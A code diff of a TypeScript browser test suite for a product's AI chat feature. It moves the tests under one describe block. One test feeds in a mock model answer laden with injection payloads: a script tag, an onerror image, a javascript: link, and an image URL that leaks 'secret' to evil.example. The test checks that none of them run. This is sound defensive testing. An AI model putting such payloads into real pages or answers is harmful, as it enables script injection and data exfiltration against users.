@@ -20,17 +20,6 @@ let provider: RunningProvider;
 let product: Product;
 let browser: Browser;
 
-beforeAll(async () => {
-  provider = await startProvider();
-  Object.assign(process.env, { AI_BASE_URL: provider.url, AI_API_KEY: KEY });
-  [product, browser] = await Promise.all([startProduct(), openBrowser()]);
-});
-afterAll(async () => {
-  await browser.close();
-  await product.end();
-  await provider.stop();
-});
-
 /** A page at which a question has been asked. `elsewhere`: what it wanted from other hosts; `said`: what it was answered. */
 async function afterAsking(question: string, arrive: (page: Page) => Promise<void> = async () => {}) {
   const { page, complaints } = await openWindow(browser, product.url);
@@ -48,97 +37,110 @@ async function afterAsking(question: string, arrive: (page: Page) => Promise<voi
 }
 const lastAnswer = (page: Page) => page.locator('[role=log] [data-from=assistant]').last();
 
-test("a model's answer is shown, and says which model wrote it", async () => {
-  provider.follow(says('Ask about the **dog**.'));
-
-  const { page, complaints } = await afterAsking('What shall I write?');
-
-  await page.getByText('AI model llama-3.1-8b-instruct').waitFor();
-  expect(await lastAnswer(page).locator('strong').textContent()).toBe('dog');
-  expect(complaints).toEqual([]);
-});
-
-test('A9: an answer shows while it is written; whoever stops it leaves the model as well', async () => {
-  provider.follow(stopsAfterALetter);
-
-  const { page } = await afterAsking('Tell me everything');
-  await lastAnswer(page).getByText('H', { exact: true }).waitFor();
-  expect(await page.getByRole('button', { name: '...' }).isDisabled()).toBe(true);
-  await page.getByRole('button', { name: 'Stop' }).click();
-
-  await page.getByText('You stopped this answer.').waitFor();
-  await until(() => provider.open() === 0);
-  provider.follow(says('Hello there.'));
-  await page.getByRole('button', { name: 'Try again' }).click();
-  await lastAnswer(page).getByText('Hello there.').waitFor();
-});
-
-test('A7: what an answer brings along runs nothing, loads nothing and leads nowhere by itself', async () => {
-  provider.follow(
-    says(
-      'Look: <script>alert(1)</script> <img src=x onerror=alert(2)> ' +
-        '![cat](https://evil.example/?q=secret) [here](javascript:alert(3)) [bank](https://evil.example/login)',
-    ),
-  );
-
-  const { page, elsewhere, dialogs, complaints } = await afterAsking('Show me');
-  const answer = lastAnswer(page);
-  // What sets the text is loaded with the first answer.
-  await answer.getByRole('link', { name: 'bank' }).waitFor();
-
-  expect(await answer.textContent()).toContain('<script>alert(1)</script> <img src=x onerror=alert(2)>');
-  expect(await answer.locator('script, img, iframe').count()).toBe(0);
-  expect(await answer.locator('a').evaluateAll(links => links.map(link => link.getAttribute('href')))).toEqual([
-    'https://evil.example/login',
-  ]);
-  await answer.getByText('here').click();
-  expect([elsewhere, dialogs, complaints]).toEqual([[], [], []]);
-});
-
-test("A8: no choices is '⚠️ No response received.', a fault '❌ Error contacting LLaMA 3.1', and both can be tried again", async () => {
-  provider.follow(answers(200, 'application/json', '{"choices":[]}'));
-  const { page } = await afterAsking('Hi');
-  await page.getByText('⚠️ No response received.').waitFor();
-
-  provider.follow(answers(500, 'text/html', `<h1>${KEY}</h1>`));
-  await page.getByRole('button', { name: 'Try again' }).click();
-  await page.getByText('❌ Error contacting LLaMA 3.1').waitFor();
-  expect(await page.getByRole('button', { name: 'Send' }).isEnabled()).toBe(true);
-
-  provider.follow(says('Hello there.'));
-  await page.getByRole('button', { name: 'Try again' }).click();
-  await lastAnswer(page).getByText('Hello there.').waitFor();
-  expect(provider.seen.at(-1)?.body.messages.slice(1)).toEqual([{ role: 'user', content: 'Hi' }]);
-});
-
-test('what a model finds for a member is a card, and the model is told no more than names', async () => {
-  const mia = aMember({ firstname: 'Mia', lastname: 'Mountain' });
-  const other = await openWindow(browser, product.url);
-  await becomeMember(other.page, product, mia);
-  const ada = aMember({ firstname: 'Ada', lastname: 'Summer' });
-  provider.follow(wants('search_members', '{"query":"Mia"}'), says('I found Mia.'));
-
-  const { page } = await afterAsking('Find Mia', async arriving => {
-    await becomeMember(arriving, product, ada);
-    await logIn(arriving, ada);
-    await arriving.waitForURL('**/moments');
+describe('AI chat with a model', () => {
+  beforeAll(async () => {
+    provider = await startProvider();
+    Object.assign(process.env, { AI_BASE_URL: provider.url, AI_API_KEY: KEY });
+    [product, browser] = await Promise.all([startProduct(), openBrowser()]);
+  });
+  afterAll(async () => {
+    await browser.close();
+    await product.end();
+    await provider.stop();
   });
 
-  await page.getByRole('list', { name: 'People found' }).getByText('Mia Mountain').waitFor();
-  const told = provider.seen.map(({ text }) => text).join();
-  expect(told).toContain('Mountain');
-  expect(told).not.toContain(mia.email);
-  expect(told).not.toContain(ada.email);
-});
+  test("a model's answer is shown, and says which model wrote it", async () => {
+    provider.follow(says('Ask about the **dog**.'));
 
-test("I29: the key goes to the provider, and neither it nor the provider's address is in any log", async () => {
-  const { host } = new URL(provider.url);
-  expect(provider.seen.at(-1)?.authorization).toBe(`Bearer ${KEY}`);
+    const { page, complaints } = await afterAsking('What shall I write?');
 
-  const logs = readdirSync(product.logs).filter(name => name !== 'redis.log' && name !== 'mongodb.log');
-  for (const name of logs) {
-    const text = readFileSync(join(product.logs, name), 'utf8');
-    expect([name, text.includes(KEY), text.includes(host)]).toEqual([name, false, false]);
-  }
-  expect(logs).toContain('ai.log');
+    await page.getByText('AI model llama-3.1-8b-instruct').waitFor();
+    expect(await lastAnswer(page).locator('strong').textContent()).toBe('dog');
+    expect(complaints).toEqual([]);
+  });
+
+  test('A9: an answer shows while it is written; whoever stops it leaves the model as well', async () => {
+    provider.follow(stopsAfterALetter);
+
+    const { page } = await afterAsking('Tell me everything');
+    await lastAnswer(page).getByText('H', { exact: true }).waitFor();
+    expect(await page.getByRole('button', { name: '...' }).isDisabled()).toBe(true);
+    await page.getByRole('button', { name: 'Stop' }).click();
+
+    await page.getByText('You stopped this answer.').waitFor();
+    await until(() => provider.open() === 0);
+    provider.follow(says('Hello there.'));
+    await page.getByRole('button', { name: 'Try again' }).click();
+    await lastAnswer(page).getByText('Hello there.').waitFor();
+  });
+
+  test('A7: what an answer brings along runs nothing, loads nothing and leads nowhere by itself', async () => {
+    provider.follow(
+      says(
+        'Look: <script>alert(1)</script> <img src=x onerror=alert(2)> ' +
+          '![cat](https://evil.example/?q=secret) [here](javascript:alert(3)) [bank](https://evil.example/login)',
+      ),
+    );
+
+    const { page, elsewhere, dialogs, complaints } = await afterAsking('Show me');
+    const answer = lastAnswer(page);
+    // What sets the text is loaded with the first answer.
+    await answer.getByRole('link', { name: 'bank' }).waitFor();
+
+    expect(await answer.textContent()).toContain('<script>alert(1)</script> <img src=x onerror=alert(2)>');
+    expect(await answer.locator('script, img, iframe').count()).toBe(0);
+    expect(await answer.locator('a').evaluateAll(links => links.map(link => link.getAttribute('href')))).toEqual([
+      'https://evil.example/login',
+    ]);
+    await answer.getByText('here').click();
+    expect([elsewhere, dialogs, complaints]).toEqual([[], [], []]);
+  });
+
+  test("A8: no choices is '⚠️ No response received.', a fault '❌ Error contacting LLaMA 3.1', and both can be tried again", async () => {
+    provider.follow(answers(200, 'application/json', '{"choices":[]}'));
+    const { page } = await afterAsking('Hi');
+    await page.getByText('⚠️ No response received.').waitFor();
+
+    provider.follow(answers(500, 'text/html', `<h1>${KEY}</h1>`));
+    await page.getByRole('button', { name: 'Try again' }).click();
+    await page.getByText('❌ Error contacting LLaMA 3.1').waitFor();
+    expect(await page.getByRole('button', { name: 'Send' }).isEnabled()).toBe(true);
+
+    provider.follow(says('Hello there.'));
+    await page.getByRole('button', { name: 'Try again' }).click();
+    await lastAnswer(page).getByText('Hello there.').waitFor();
+    expect(provider.seen.at(-1)?.body.messages.slice(1)).toEqual([{ role: 'user', content: 'Hi' }]);
+  });
+
+  test('what a model finds for a member is a card, and the model is told no more than names', async () => {
+    const mia = aMember({ firstname: 'Mia', lastname: 'Mountain' });
+    const other = await openWindow(browser, product.url);
+    await becomeMember(other.page, product, mia);
+    const ada = aMember({ firstname: 'Ada', lastname: 'Summer' });
+    provider.follow(wants('search_members', '{"query":"Mia"}'), says('I found Mia.'));
+
+    const { page } = await afterAsking('Find Mia', async arriving => {
+      await becomeMember(arriving, product, ada);
+      await logIn(arriving, ada);
+      await arriving.waitForURL('**/moments');
+    });
+
+    await page.getByRole('list', { name: 'People found' }).getByText('Mia Mountain').waitFor();
+    const told = provider.seen.map(({ text }) => text).join();
+    expect(told).toContain('Mountain');
+    expect(told).not.toContain(mia.email);
+    expect(told).not.toContain(ada.email);
+  });
+
+  test("I29: the key goes to the provider, and neither it nor the provider's address is in any log", async () => {
+    const { host } = new URL(provider.url);
+    expect(provider.seen.at(-1)?.authorization).toBe(`Bearer ${KEY}`);
+
+    const logs = readdirSync(product.logs).filter(name => name !== 'redis.log' && name !== 'mongodb.log');
+    for (const name of logs) {
+      const text = readFileSync(join(product.logs, name), 'utf8');
+      expect([name, text.includes(KEY), text.includes(host)]).toEqual([name, false, false]);
+    }
+    expect(logs).toContain('ai.log');
+  });
 });
